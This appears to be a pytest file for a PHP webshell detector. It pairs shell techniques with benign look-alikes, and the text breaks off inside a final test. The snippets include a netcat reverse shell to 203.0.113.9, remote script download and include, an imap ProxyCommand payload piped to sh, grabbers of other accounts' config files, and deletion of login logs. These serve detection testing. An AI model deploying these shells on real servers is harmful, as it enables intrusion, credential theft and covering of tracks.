"""PHP signals for shells that reach execution, files or the network without the classic eval($_POST[..]).

Each snippet is written here to show one technique (variable names and layout are made up); each has a
benign look-alike from ordinary application code that the same signal must leave alone.
"""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, decode, php

UPLOADS = analyse.DEFAULT_UPLOAD_DIRS


def signals(code):
    """The signal names the engine finds in PHP source ``code``: on the text as it is, and on the normalised and
    decoded layers (the two passes analyse makes)."""
    return set(php.score_php([code]).found) | set(php.score_php(decode.layers(code)).found)


def verdict(code, name="site/page.php"):
    return analyse.analyse(name, code.encode("latin-1"), php.THRESHOLD, UPLOADS)


# (signal, shell-like snippet, benign look-alike)
CASES = [
    ("include_of_stream",
     "<?php ini_set('allow_url_include', '1'); include('php://input');",
     "<?php $raw = file_get_contents('php://input'); include 'lib/json.php'; $data = json_decode($raw);"),
    ("include_of_disguised_archive",
     "<?php\n/**\n * License: GPLv2\n */\n    include 'phar://readme.txt/readme.txt';",
     "<?php require 'phar://' . __FILE__ . '/bootstrap.php'; include 'phar://tools/box.phar/src/run.php';"),
    ("input_is_include_path",
     "<?php @require_once($_REQUEST['mod']);",
     "<?php $page = basename($_GET['page']); include 'pages/' . $page . '.php';"),
    ("input_to_indexed_function",
     "<?php $cfg['h'] = 'as' . 'sert'; $list[] = $cfg; $list[0]['h']($_POST['q']);",
     "<?php $handlers['save'] = 'save_form'; $handlers['save']($form_data);"),
    ("tainted_element_as_function",
     "<?php $r = $_COOKIE; $r['fn']($r['arg']);",
     "<?php $r = $_COOKIE; $lang = $r['lang']; $fmt = $formatters['date']($when);"),
    ("input_to_reflection_call",
     "<?php $f = implode('', array('sys', 'tem')); Closure::fromCallable($f)->__invoke($_GET['c']);",
     "<?php $m = new ReflectionMethod($controller, 'index'); $m->invoke($controller, $id);"),
    ("input_echoed_to_buffer_callback",
     "<?php ob_start(function ($buf) { register_shutdown_function('assert', $buf); return ''; });\n"
     "echo $_POST['x']; ob_end_flush();",
     "<?php ob_start('ob_gzhandler'); echo htmlspecialchars($title);"),
    ("xsl_function_sink",
     "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:p='http://php.net/xsl'>"
     "<xsl:template match='/'><xsl:value-of select=\"p:function('assert', string(.))\"/></xsl:template>"
     "</xsl:stylesheet>",
     "<xsl:template match='/'><xsl:value-of select=\"php:function('ucfirst', string(title))\"/></xsl:template>"),
    ("preg_replace_built_e",
     "<?php $d = '#'; $out = preg_replace($d . $key . $d . 'e', $_POST['r'], $key);",
     "<?php $out = preg_replace('/' . preg_quote($word, '/') . '/i', '<b>$0</b>', $text);"),
    ("input_chosen_write_path",
     "<?php file_put_contents($_GET['to'], base64_decode($_POST['body']));",
     "<?php $fh = fopen($_GET['log'] === 'a' ? 'a.log' : 'b.log', 'r');"),
    ("tainted_to_socket",
     "<?php $target = $_GET['host']; while (1) { $s = fsockopen('udp://' . $target, rand(1, 65000)); }",
     "<?php $host = $config['smtp_host']; $user = $_POST['user']; $s = fsockopen($host, 25);"),
    ("input_db_login",
     "<?php $u = $_POST['user']; $p = $_POST['pass']; $link = mysql_connect('localhost', $u, $p);",
     "<?php $name = $_POST['name']; $link = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD);"),
    ("input_is_query",
     "<?php $link = mysqli_connect($h, $u, $p); $sql = $_POST['sql']; $res = mysqli_query($link, $sql);",
     "<?php $id = (int) $_GET['id']; $res = mysqli_query($link, 'SELECT * FROM t WHERE id = ' . $id);"),
    ("bulk_mail_from_request",
     "<?php $to_list = $_POST['list']; foreach (explode(\"\\n\", $to_list) as $to) { mail($to, $s, $b); }",
     "<?php $lines = explode(\"\\n\", $template); mail($_POST['email'], 'Thanks', implode(\"\\n\", $lines));"),
    ("request_driven_file_manager",
     "<?php if ($_GET['do'] == 'del') unlink($_GET['f']);\n"
     "if ($_GET['do'] == 'perm') chmod($_GET['f'], 0777);\n"
     "if ($_GET['do'] == 'ls') { $d = $_GET['d']; foreach (scandir($d) as $e) echo $e; }",
     "<?php $f = $_GET['f']; $safe = basename($f);\nfunction cleanup($tmp) { unlink($tmp); chmod($tmp, 0600); }"),
    ("unchecked_upload_to_input_name",
     "<?php $n = $_FILES['up']['name']; $dest = $dir . $n; move_uploaded_file($_FILES['up']['tmp_name'], $dest);",
     "<?php $n = $_FILES['up']['name']; $ext = pathinfo($n, PATHINFO_EXTENSION);\n"
     "if (in_array($ext, array('jpg', 'png'))) { $dest = $dir . $n; move_uploaded_file($_FILES['up']['tmp_name'], $dest); }"),
    ("form_field_to_sink",
     "<form method=post><input type=text name=cmd></form><?php if ($cmd) { system(\"$cmd 2>&1\"); } ?>",
     "<form method=post><input type=text name=cmd></form><?php $cmd = 'uptime'; system($cmd); ?>"),
    ("command_interpreter_process",
     "<?php $p = proc_open($_SERVER['COMSPEC'], array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $io);",
     "<?php $p = proc_open('git status', array(1 => array('pipe', 'w')), $io); $env = $_SERVER['COMSPEC'];"),
    ("command_interpreter_process",
     "<?php $fp = popen('/bin/sh', 'r'); echo fread($fp, 4096);",
     "<?php $fp = popen('/usr/sbin/sendmail -t', 'w'); fwrite($fp, $message);"),
    ("command_interpreter_process",
     "<?php exec('/bin/sh');",
     "<?php exec('/bin/sh ./scripts/rotate-logs.sh', $out);"),
    ("command_interpreter_process",
     "<?php $p = proc_open(['/usr/bin/bash', '-i'], [0 => ['pipe', 'r'], 1 => ['pipe', 'w']], $io);",
     "<?php $p = proc_open(['/usr/bin/git', 'status'], [1 => ['pipe', 'w']], $io);"),
    ("command_interpreter_process",
     "<?php $p = popen('C:\\\\Windows\\\\System32\\\\cmd.exe', 'w'); fwrite($p, $_POST['c']);",
     "<?php $p = popen('C:\\\\Tools\\\\convert.exe -resize 50% in.png out.png', 'r');"),
    ("embedded_interpreter_eval",
     "<?php $p = new Perl(); $p->eval(\"system('$c')\");",
     "<?php $v8 = new V8Js(); $js = file_get_contents('bundle.js'); $config = json_decode($settings);"),
    ("input_written_to_script",
     "<?php $d = $_POST['d']; file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/wp-cache.php', base64_decode($d));",
     "<?php $cfg = \"<?php define('DB_NAME', '\" . addslashes($_POST['db']) . \"');\"; file_put_contents('config.php', $cfg);"),
    ("input_written_to_script",
     "<?php $f = fopen('x.php', 'w'); fwrite($f, stripslashes($_REQUEST['code'])); fclose($f);",
     "<?php $f = fopen('x.php', 'r'); $log = fopen('notes.txt', 'a'); fwrite($log, $_REQUEST['note']);"),
    ("input_written_to_script",
     "<?php file_put_contents(__DIR__ . '/cache/run.phtml', $_POST['body']);",
     "<?php file_put_contents(ABSPATH . '.htaccess', stripslashes($_POST['rules']));"),
    # The request's text between PHP's own tags: it is the program; an installer puts a value inside a string of it.
    ("input_written_to_script",
     "<?php file_put_contents('code.php', '<?php ' . $_REQUEST['code'] . ' ?>'); include 'code.php';",
     "<?php file_put_contents('config.php', '<?php $title = ' . var_export($_POST['title'], true) . ';');"),
    ("ld_preload_set",
     "<?php putenv('LD_PRELOAD=' . __DIR__ . '/hook.so'); putenv('CMD=' . $_GET['c']); mail('a@b.c', '', '');",
     "<?php putenv('LANG=C'); mail($to, $subject, $body); // LD_PRELOAD is not used here"),
    ("imap_proxy_command",
     "<?php $srv = 'x -oProxyCommand=echo\\t' . base64_encode($_POST['c']) . '|base64\\t-d|sh}'; "
     "imap_open('{' . $srv . ':143/imap}INBOX', '', '');",
     "<?php $mbox = imap_open('{mail.example.org:993/imap/ssl}INBOX', $user, $password);"),
    ("ffi_native_command",
     "<?php $ffi = FFI::cdef('int system(const char *command);'); $ffi->system($_GET['c']);",
     "<?php $ffi = FFI::cdef('size_t strlen(const char *s);', 'libc.so.6'); echo $ffi->strlen('abc');"),
    ("input_to_callback",
     "<?php spl_autoload_register($_GET['f']); class_exists($_GET['c']);",
     "<?php spl_autoload_register(function ($class) { require __DIR__ . '/src/' . $class . '.php'; });"),
    ("input_to_late_callback",
     "<?php $p = xml_parser_create(); xml_set_character_data_handler($p, $_GET['f']); xml_parse($p, $doc);",
     "<?php $p = xml_parser_create(); xml_set_character_data_handler($p, 'on_text'); xml_parse($p, $_POST['doc']);"),
    ("com_shell_object",
     "<?php $sh = new COM('WScript.Shell'); $sh->Run('cmd /c ' . $_POST['c'], 0, false);",
     "<?php $wmi = new COM('WinMgmts:\\\\.'); $cpus = $wmi->InstancesOf('Win32_Processor');"),
    ("preg_replace_e",
     "<?php preg_filter('|x|e', $_REQUEST['c'], 'x');",
     "<?php $tagged = preg_filter('/^/', 'tag: ', $names);"),
    ("input_variable_included",
     "<?php $target = trim($_GET['file']); require_once($target);",
     "<?php $file = '/etc/app/config-' . $_SERVER['HTTP_HOST'] . '.php'; require_once($file);"),
    ("sink_name_called",
     "<?php $f = 'X+H=~yYvzb$xD%`' ^ \"\\x3b\\x59\\x2d\\x5c\\xa\\x1c\\x6\\x10\\xf\\xc\\x47\\xc\\x2d\\x4a\\xe\"; "
     "$g = $f('', $_POST['c']); $g();",
     "<?php $mask = 'abc' ^ \"\\x01\\x02\\x03\"; $out = $mask . $name;"),
    ("filter_callback_sink",
     "<?php filter_var($_REQUEST['x'], FILTER_CALLBACK, array('options' => 'assert'));",
     "<?php $clean = filter_var($_POST['name'], FILTER_CALLBACK, array('options' => 'strtoupper'));"),
    ("remote_script_saved",
     "<?php copy('http://203.0.113.9/tools/fm.txt', 'wp-cache.php'); include 'wp-cache.php';",
     "<?php copy('http://example.org/feeds/latest.xml', $cache_dir . '/latest.xml');"),
    ("sink_name_called",
     "<?php $c = 'ass' . 'ert';\n${c}($_POST['x']);",
     "<?php $c = 'trim';\n${c}($_POST['x']);"),
    ("magic_method_runs_property",
     "<?php class Cache { public $hook = ''; function __destruct() { @eval($this->hook); } }\n"
     "$c = unserialize(base64_decode($_COOKIE['c']));",
     "<?php class Conn { function __destruct() { $this->pdo->exec($this->cleanup); } function run() { eval($code); } }"),
    # Review of session 10's signals: each look-alike below was flagged before the fix.
    ("embedded_interpreter_eval",
     "<?php $p = new \\Perl; $p->eval($_POST['c']);",
     "<?php $lua = new Lua(); $lua->assign('limit', 10); $config = $settings;"),
    ("remote_script_saved",
     "<?php copy('http://203.0.113.9/x', 'wp-load-cache.php');",
     "<?php copy('https://getcomposer.org/installer', 'composer-setup.php'); echo 'downloaded';"),
    ("ld_preload_set",
     "<?php putenv(\"LD_PRELOAD=/tmp/hook.so\"); mail('a@b.c', '', '');",
     "<?php putenv('LD_PRELOAD='); mail($to, $subject, $body);"),
    ("imap_proxy_command",
     "<?php $s = 'x -o ProxyCommand=echo\\t' . $_POST['c']; imap_open('{' . $s . ':143/imap}INBOX', '', '');",
     "<?php $cmd = 'ssh -o ProxyCommand=\"ssh -W %h:%p bastion\" deploy@host uptime'; exec($cmd, $out);"),
    ("magic_method_runs_property",
     "<?php class Job { function __destruct() { if ($this->on) { eval($this->code); } } }",
     "<?php class Stack { function __destruct() { assert($this->stack === []); } }"),
    ("filter_callback_sink",
     "<?php filter_var($_REQUEST['x'], FILTER_CALLBACK, array('flags' => 0, 'options' => 'system'));",
     "<?php $v = filter_var($_POST['x'], FILTER_CALLBACK, array('options' => 'base64_decode'));"),
    ("tainted_to_callback",
     "<?php $f = $_GET['f']; spl_autoload_register($f);",
     "<?php $class = $_GET['class']; echo htmlspecialchars($class);\n"
     "spl_autoload_register(function ($class) { require __DIR__ . '/src/' . $class . '.php'; });"),
    ("input_variable_included",
     "<?php $p = $_GET['p']; include($p);",
     "<?php $p = $_GET['p']; if (in_array($p, array('a.php', 'b.php'))) { include($p); }"),
    ("input_variable_included",
     "<?php $p = urldecode($_COOKIE['p']); include($p);",
     "<?php $t = $_SESSION['theme']; include($t);"),
    ("input_written_to_script",
     "<?php file_put_contents('x.php', file_get_contents('php://input'));",
     "<?php file_put_contents('settings.php', json_encode($_POST));"),
    ("com_shell_object",
     "<?php $sh = new COM('WScript.Shell', null, CP_UTF8); $sh->Run('cmd /c ' . $_POST['c'], 0);",
     "<?php $word = new COM('Word.Application', null, CP_UTF8); $word->Run('Macro1');"),
    ("ffi_native_command",
     "<?php $f = FFI::cdef('typedef int pid_t; int system(const char *c);', 'libc.so.6'); $f->system($_GET['c']);",
     "<?php $f = FFI::cdef('typedef int pid_t; pid_t getpid(void);', 'libc.so.6'); echo $f->getpid();"),
    ("tainted_in_backticks",
     "<?php $c = $_GET['c']; echo `${c}`;",
     "<?php $name = $_GET['n']; ?><script>var t = `Hello ${name}`;</script>"),
    ("preg_replace_e_code",
     "<?php preg_replace('/(.*)/e', '\\\\1', base64_decode($_COOKIE['c']));",
     "<?php $html = preg_replace(\"/\\[color=(\\w+)\\]/e\", \"color_txt('\\\\1')\", $text);"),
    ("preg_replace_e_code",
     "<?php preg_replace(\"/x/e\", \"\\x65\\x76\\x61\\x6c(\\$_POST[1])\", 'x');",
     "<?php $s = preg_replace('/\\{(\\w+)\\}/e', '$vars[\\'\\\\1\\']', $tpl);"),
    ("preg_replace_e_code",
     "<?php $r = $_GET['r']; echo preg_replace('#x#e', $r, 'x');",
     "<?php $out = preg_replace('/\\s+/e', '', $text);"),
    ("form_field_to_sink",
     "<?php if ($cmd == \"\") { $cmd = 'dir'; } ?><form method=post><input style=\"" + "border: 1px; " * 30
     + "\" type=text name=cmd></form><?php system($cmd); ?>",
     "<?php if ($mode == 'x') { $cmd = 'dir'; } ?><form method=post><input style=\"" + "border: 1px; " * 30
     + "\" type=text name=cmd></form><?php system($cmd); ?>"),
    # A config grabber: every account of the host, its site's configuration files linked into reach; beside an
    # installer that names its own account's home folder and its own configuration file.
    ("other_sites_configs",
     "<?php foreach (file('/etc/passwd') as $line) { $u = explode(':', $line)[0];\n"
     "foreach (array('wp-config.php', 'configuration.php') as $c) { @symlink('/home/' . $u . '/public_html/' . $c, "
     "\"grab/$u-$c.txt\"); } }",
     "<?php $account = get_current_user(); $root = '/home/' . $account . '/public_html';\n"
     "if (!file_exists($root . '/wp-config.php')) { copy($root . '/wp-config-sample.php', $root . '/wp-config.php'); }"),
    ("other_sites_configs",
     "<?php $named = file_get_contents('/etc/named.conf'); preg_match_all('/zone \"(.*?)\"/', $named, $m);\n"
     "foreach ($users as $user) { echo @file_get_contents(\"/home/$user/public_html/configuration.php\"); }",
     "<?php if (is_readable('/etc/passwd')) { $shells = count(file('/etc/passwd')); }\n"
     "$conf = include __DIR__ . '/config.php'; echo $conf['home'] . '/' . $conf['site'];"),
    # The home root chosen from a list (home, home2 ...) and the account named by a variable; beside a deployment
    # script linking a release's web folder (no file inside another account's folder).
    ("other_sites_configs",
     "<?php echo system('ls /home'); $root = $_POST['root']; foreach (explode(\"\\n\", $_POST['users']) as $u) {\n"
     "symlink('/' . $root . '/' . $u . '/public_html/wp-config.php', $u . '.txt'); }",
     "<?php $release = '/home/deploy/releases/' . date('YmdHis'); symlink($release . '/public_html', $current);\n"
     "copy($shared . '/config.php', $release . '/config.php');"),
    ("tracks_wiped",
     "<?php foreach (array('/var/log/wtmp', '/var/run/utmp', '/var/log/lastlog', '/root/.bash_history') as $f) "
     "{ @unlink($f); }",
     "<?php $lines = file('/var/log/auth.log'); echo count($lines); // logins are also in wtmp, utmp and lastlog"),
    ("undefined_variable_to_sink",
     "<?php\nif ($cmd != \"\")\n\tprint Shell_Exec($cmd);\n?>",
     "<?php\nfunction run($cmd) { return shell_exec($cmd); }\necho run('uptime');\n?>"),
    ("undefined_variable_to_sink",
     "<?php $c = trim($q); if ($c) { system($c); }",
     "<?php foreach ($jobs as $job) { $c = 'php ' . escapeshellarg($job); } $c = 'uptime'; system($c);"),
    ("undefined_variable_to_sink",
     "<?php\n$phpcode = trim($p1);\n$phpcode = \"<?php\\n{$phpcode}\\n?>\";\neval(\"?\".\">$phpcode<?\");\n?>",
     "<?php\n$phpcode = trim('echo 1;');\neval(\"?\".\">$phpcode<?\");\n?>"),
    # A deployment script's rsync over ssh: "rsync -e" holds the letters of "nc -e" but runs no netcat.
    ("reverse_shell",
     "<?php system('nc -e /bin/sh 203.0.113.9 4444');",
     "<?php $cmd = 'rsync -e ' . escapeshellarg('ssh -p 2222') . ' -avz ./ deploy@example.org:/srv/www/';"),
    # A library's map keeping an invariant as a comment (phpseclib's TBSCertificate): nothing on that line runs.
    ("undefined_variable_to_sink",
     "<?php\nabstract class Map {\n    const MAP = ['type' => 16];\n}\nassert($tbs['children']['signature']);",
     "<?php\nabstract class Map {\n    // assert($tbs['children']['signature'] == $cert['children']['algorithm'])\n"
     "    const MAP = ['type' => 16];\n}"),
    ("decoder_chain",
     "<?php $p = 'eNpLLSrKL0pVyC9KAQAbwAQy'; echo gzinflate(base64_decode($p));",
     "<?php $back = base64_decode(urldecode($_GET['return_url'])); $id = base64_decode(rawurldecode($token));"),
    ("string_offset_function",
     "<?php $s = 'abcdefghijklmnopqrstuvwxyz'; $f = $s[4] . $s[21] . $s[0] . $s[11]; $f($_POST['x']);",
     "<?php $out .= chr(hexdec($c[0] . $c[1])) . chr(hexdec($c{2}.$c{3}));\n"
     "if ($query[0] . $query[1] == '--') { continue; }"),
    ("detached_long_run",
     "<?php ignore_user_abort(true); set_time_limit(0); while (true) { sleep(60); }",
     "<?php set_time_limit(0); ignore_user_abort(false); run_backup();"),
]


@pytest.mark.parametrize("name,shell,benign", CASES, ids=[c[0] for c in CASES])
def test_signal_fires_on_the_technique_and_not_on_the_look_alike(name, shell, benign):
    assert name in signals(shell)
    assert name not in signals(benign)


def test_superglobal_named_by_a_loop_literal_is_request_input():
    # foreach over the literal '_POST' and $$ turn every posted field into a variable; one is then called.
    code = ("<?php foreach (array('_POST') as $src) { foreach ($$src as $k => $v) { $$k = $v; } }\n"
            "$fn($arg);")
    found = signals(code)
    assert {"input_extracted", "extracted_input_to_sink"} <= found
    assert "input_extracted" not in signals("<?php foreach (array('_POST') as $src) { $names[] = $src; }")


def test_a_class_named_by_a_variable_is_instantiated_not_a_function_called():
    # Application code: a driver class chosen by configuration and given request data (ecshop's user integration,
    # SuiteCRM's controllers); the same variable called as a function is a shell's indirect call.
    driver = "<?php $code = $cfg['driver']; $user = new $code($_POST['cfg']); $user->login();"
    assert not {"input_to_variable_function", "variable_function"} & signals(driver)
    assert verdict(driver)["kind"] is None
    shell = "<?php $code = $cfg['driver']; $user = $code($_POST['cfg']);"
    assert "input_to_variable_function" in signals(shell)
    tainted = "<?php $c = $_POST['cfg']; $obj = new $name($c); $r = renew $f($c);"
    assert "tainted_to_variable_function" in signals(tainted)  # "renew" is not the word new


def test_code_commented_out_or_documented_does_not_run():
    # Old code kept as a comment (a CMS's former preg_replace /e), and a docblock's example.
    commented = ("<?php\n// $message = preg_replace(\"/\\[media=(\\w+)\\]/ies\", \"parsemedia('\\\\1')\", $message);\n"
                 "/**\n * Example: eval($_POST['code']); is what this filter blocks.\n */\nfunction clean($s) { return $s; }")
    assert not {"preg_replace_e", "preg_replace_e_code", "input_to_code"} & signals(commented)
    live = "<?php\n$message = preg_replace(\"/\\[media=(\\w+)\\]/ies\", $_POST['r'], $message); // media tags"
    assert "preg_replace_e_code" in signals(live)
    # #[...] opens a PHP 8 attribute, not a comment: the code on that line still counts.
    assert "input_to_code" in signals("<?php\n#[Route('/x')] function x() { eval($_POST['c']); }")


def test_request_input_extracted_on_a_commented_line_is_not_extracted():
    # A theme handler (e107) keeps "//\textract($_FILES);" from an older version, far from its own eval().
    kept = "<?php\nfunction load($line) {\n\t@eval(str_replace('$', '\\$', $line));\n}\n//\textract($_FILES);\n"
    assert not {"input_extracted", "extracted_input_to_sink"} & signals(kept)
    assert "input_extracted" in signals(kept.replace("//\textract", "extract"))
    by_hand = "<?php\n# foreach ($_POST as $k => $v) { $$k = $v; }\neval($code);\n"
    assert "input_extracted" not in signals(by_hand)
    assert "input_extracted" in signals(by_hand.replace("# foreach", "foreach"))


def test_superglobal_written_in_a_single_quoted_literal_is_text_not_input():
    # A template compiler writing PHP code: PHP does not interpolate single-quoted strings.
    compiler = ("<?php function var_of($param, $type) { switch ($type) {\n"
                "case 'get': $code = '$_GET[\\'' . $param . '\\']'; break;\n"
                "default: $code = '\\'\\''; }\n$func = $this->filter; $func($code); return $code; }")
    assert "tainted_to_variable_function" not in signals(compiler)
    assert "tainted_to_variable_function" in signals(compiler.replace("'$_GET[\\'' . $param . '\\']'", "$_GET[$param]"))


def test_names_in_a_docblock_written_in_another_script_are_not_obfuscated_identifiers():
    # "$name为数组" (UTF-8, read as bytes) in Chinese documentation, beside names of random bytes in code.
    doc = "/**\n" + "".join(" * @param $name%d\u4e3a\u6570\u7ec4\n" % i for i in range(6)) + " */\n"
    prose = ("<?php\n" + doc + "function f($a) { return $a; }").encode("utf-8").decode("latin-1")
    assert "obfuscated_identifiers" not in dict(php._obfuscation(prose))
    code = "<?php " + "".join("$\xe9\xfd%d = %d; " % (i, i) for i in range(6))
    assert "obfuscated_identifiers" in dict(php._obfuscation(code))


def test_a_hook_from_the_applications_registry_called_with_request_data_is_no_shell_call():
    # A plugin system (Z-BlogPHP's API dispatch): the functions were registered elsewhere; request data is passed on.
    hooks = ("<?php $data = json_decode(file_get_contents('php://input'), true);\n"
             "foreach ($GLOBALS['hooks']['Filter_API_Response'] as $fpname => &$fpsignal) { $fpname($data); }\n"
             "foreach ($this->listeners as $listener) { $listener($_POST); }")
    assert not {"tainted_to_variable_function", "input_to_variable_function", "variable_function"} & signals(hooks)
    # A loop over names written in the file (a shell's fallbacks) still calls what the file chose.
    fallbacks = "<?php $c = $_POST['c']; foreach (array('system', 'passthru') as $f) { $f($c); }"
    assert "tainted_to_variable_function" in signals(fallbacks)


def test_a_global_registry_the_file_only_declares_gives_the_callables_of_its_loop():
    # An input helper (Cotonti's import()) runs the filters plugins registered in a global array, on request data.
    helper = ("<?php $import_filters = [];\nfunction import($name, $filter) { global $import_filters; $v = $_GET[$name];\n"
              "foreach ($import_filters[$filter] as $func) { $v = $func($v, $name); }\nreturn $v; }")
    assert not {"tainted_to_variable_function", "input_to_variable_function"} & signals(helper)
    # Filled by the file itself it is the file's choice, global or not.
    filled = helper.replace("$import_filters = [];", "$import_filters = ['int' => ['assert']];")
    assert "tainted_to_variable_function" in signals(filled)
    appended = helper.replace("global $import_filters;", "global $import_filters; $import_filters[$filter][] = 'system';")
    assert "tainted_to_variable_function" in signals(appended)


def test_a_tainted_variable_named_in_a_comment_is_no_call():
    # Serendipity's compatibility layer: "sometimes in $serendipity['GET'] (and POST/COOKIE)." after
    # $serendipity['GET'] = &$_GET[...]: the words in brackets after the name in the comment are no call.
    documented = ("<?php\n// The core sets values sometimes in $_GET and\n// sometimes in $serendipity['GET'] (and POST).\n"
                  "$serendipity['GET'] = &$_GET['serendipity'];")
    assert "tainted_element_as_function" not in signals(documented)
    assert "tainted_element_as_function" in signals(documented + "\n$serendipity['GET'] ($x);")


def test_a_sink_name_compared_or_used_as_a_case_label_is_tested_not_taken():
    # An error page's stack tracer (KodExplorer's common functions) names frames by comparing their function.
    tracer = ("<?php foreach ($trace as $call) { if ($call['function'] == 'call_user_func_array') { continue; }\n"
              "switch ($call['function']) { case 'eval': $kind = 'code'; break; }\n"
              "if ('assert' !== $call['function']) { $out[] = $call['function']; } }")
    assert "sink_name_literal" not in signals(tracer)
    # Taken as a value it counts: assigned, or chosen by a condition.
    assert "sink_name_literal" in signals("<?php $f = 'call_user_func_array'; $f($a, $b);")
    assert "sink_name_literal" in signals("<?php $f = $fast ? 'assert' : 'trim'; $f($a);")


def test_request_text_given_to_the_applications_own_named_callback_is_no_late_callback():
    # A comment form (DzzOffice) replaces @mentions in the posted message with its own function.
    mentions = ("<?php $message = censor($_GET['message']);\n"
                "$message = preg_replace_callback(\"/@\\[(.+?):(.+?)\\]/i\", \"atreplacement\", $message);\n"
                "$text = preg_replace_callback('/#(\\w+)/', [$this, 'tag_link'], $message);")
    assert "tainted_to_late_callback" not in signals(mentions)
    # The same with a class's own method (iCMS's router).
    rules = ("<?php $url = $_GET['u'];\n$url = preg_replace_callback('/\\{(.*?)\\}/', array(__CLASS__, 'rule'), $url);\n"
             "$url = preg_replace_callback('/x/', 'Route::expand', $url);")
    assert "tainted_to_late_callback" not in signals(rules)
    # A sink named as the callback still runs the request's text.
    shell = "<?php $c = $_GET['c']; $x = preg_replace_callback('/.+/', 'assert', $c);"
    assert "tainted_to_late_callback" in signals(shell)


def test_backticks_quoting_names_in_sql_text_are_no_command():
    # A database tool's search and replace (iCMS): MySQL quotes column names in backticks inside the query string.
    sql = ("<?php $field = $_POST['field'];\n"
           "$n = db::query(\"update `#@__article` set `$field` = replace(`$field`, '$a', '$b') {$where}\");")
    assert not {"tainted_in_backticks", "backtick_command"} & signals(sql)
    assert "tainted_in_backticks" in signals("<?php $field = $_POST['field']; $out = (`ls $field`); echo $out;")


def test_a_filter_its_callers_choose_is_no_call_of_the_files_choosing():
    # A framework's input helper (YzmCMS's input()): the filter is a parameter, called by code in other files.
    helper = ("<?php\nfunction input($key = '', $default = '', $function = '') {\n"
              "    $raw = file_get_contents('php://input');\n"
              "    return isset($_GET[$key]) ? ($function ? $function($_GET[$key]) : $_GET[$key]) : $default;\n}")
    assert not {"input_to_variable_function", "tainted_to_variable_function", "variable_function"} & signals(helper)
    # The same function called here, handed over as a callback or called as a method chooses the sink in this file.
    for use in ("run('assert');", "array_map('run', array('system'));", "$k->run('system');"):
        shell = "<?php function run($f) { $f($_POST['c']); } " + use
        assert "input_to_variable_function" in signals(shell), use
    # A magic method is called by PHP itself.
    magic = "<?php class S { function __construct($f) { $f($_POST['c']); } }"
    assert "input_to_variable_function" in signals(magic)


def test_filter_input_of_a_request_array_is_request_input():
    assert php.has_request_input("<?php $c = filter_input(input_post, 'c');")
    assert "input_to_code" in signals("<?php eval(filter_input(INPUT_POST, 'c'));")
    assert "input_to_command" in signals("<?php system(filter_input(INPUT_GET, 'cmd', FILTER_UNSAFE_RAW));")
    # A validated page number from the request is input too, but reaches nothing that runs.
    page = "<?php $page = filter_input(INPUT_GET, 'page', FILTER_VALIDATE_INT) ?: 1; echo (int) $page;"
    assert php.has_request_input(page.lower()) and verdict(page)["kind"] is None
    assert not php.has_request_input("<?php $v = filter_var($email, FILTER_VALIDATE_EMAIL);")


def test_http_vars_of_old_php_count_as_request_input():
    assert php.has_request_input("<?php extract($http_post_vars); system($command);")
    assert not php.has_request_input("<?php $http_client->get('x');")


def test_interpolated_tainted_command():
    assert "tainted_to_command" in signals("<?php $c = $_POST['c']; passthru(\"$c 2>&1\");")
    assert "tainted_to_command" not in signals("<?php $c = $_POST['c']; passthru(\"ls -l 2>&1\");")


def test_whole_shells_are_flagged_and_the_look_alikes_are_not():
    shell = ("<?php set_time_limit(0); ignore_user_abort(1);\n$list = $_POST['emails']; $subj = $_POST['s'];\n"
             "foreach (explode(\"\\n\", $list) as $to) { @mail(trim($to), $subj, $_POST['body']); }")
    assert verdict(shell)["kind"] == "webshell"
    contact = ("<?php $to = get_option('admin_email'); $msg = explode(\"\\n\", wordwrap($_POST['message'], 70));\n"
               "mail($to, 'Contact form', implode(\"\\n\", $msg));")
    assert verdict(contact)["kind"] is None


def test_dropper_writes_an_encoded_php_script():
    import base64

    payload = base64.b64encode(b"<?php echo file_get_contents($argv[1]); // planted helper script").decode()
    shell = "<?php $fp = fopen($dir . '/x.php', 'w'); fwrite($fp, base64_decode('%s')); fclose($fp);" % payload
    assert "php_dropper" in signals(shell)
    logo = base64.b64encode(b"GIF89a\x01\x00\x01\x00 a small transparent image for the layout").decode()
    benign = "<?php file_put_contents($cache . '/pixel.gif', base64_decode('%s'));" % logo
    assert "php_dropper" not in signals(benign)


def test_request_path_through_a_stream_wrapper():
    shell = "<?php $f = $_POST['f']; copy('compress.zlib://' . $f, '/tmp/out'); readfile('/tmp/out');"
    assert "input_path_through_wrapper" in signals(shell)
    benign = "<?php $f = $_POST['f']; $abs = 'file://' . __DIR__ . '/data/' . basename($config_name);"
    assert "input_path_through_wrapper" not in signals(benign)


def test_names_spelled_from_a_character_table():
    shell = "<?php $t = 'abcdefghijklmnopqrstuvwxyz_'; " + "".join(
        "$f%d = $t[%d].$t[%d].$t[%d];" % (i, i, i + 1, i + 2) for i in range(16))
    assert "char_table_strings" in signals(shell)
    benign = "<?php " + "".join("$w%d = $words[%d] . ' ' . $words[%d];" % (i, i, i + 1) for i in range(16))
    assert "char_table_strings" not in signals(benign)
    # Large texts (their literals found by the automaton), with either bracket.
    braces = shell.replace("[", "{").replace("]", "}")
    for text in (shell, braces):
        large = text + "\n// " + "padding " * 100
        assert len(large) >= php.WORDS_FROM and "char_table_strings" in signals(large)


def test_adjacent_double_quoted_strings_are_not_paired_across():
    # "$target","w" holds two strings: the closing quote of the first must not open a literal ",".
    text = decode.normalise('<?php $fp = fopen("$target","w"); fwrite($fp, "x");')
    assert "fopen(\"$target\",'w')" in text


def test_index_table_of_function_names_is_folded():
    # A packer keeps the names it calls in a table and calls the entries; folding reveals the sink.
    shell = ("<?php $T = array('k' => 'create_function', 'r' => str_repeat('x', 3), 'j' => 'call_user_func');\n"
             "$T['j']($T['k'](null, $payload));")
    assert "sink_name_called" in signals(shell)
    benign = ("<?php $labels = array('save' => 'Save', 'cancel' => 'Cancel');\n"
              "echo $labels['save']; $callbacks['save']($form);")
    assert "sink_name_called" not in signals(benign)


def test_register_globals_file_manager_from_form_fields_and_links():
    # Old PHP filled $d, $del and $new from the query string and forms: paths nobody assigns in the file.
    shell = ("<a href='?d=/var/www&del=index.php'>x</a><form action='?mk=1'><input name=new></form>\n"
             "<?php if ($del) unlink(\"$d/$del\"); if ($new) { mkdir(\"$d/$new\", 0777); }\n"
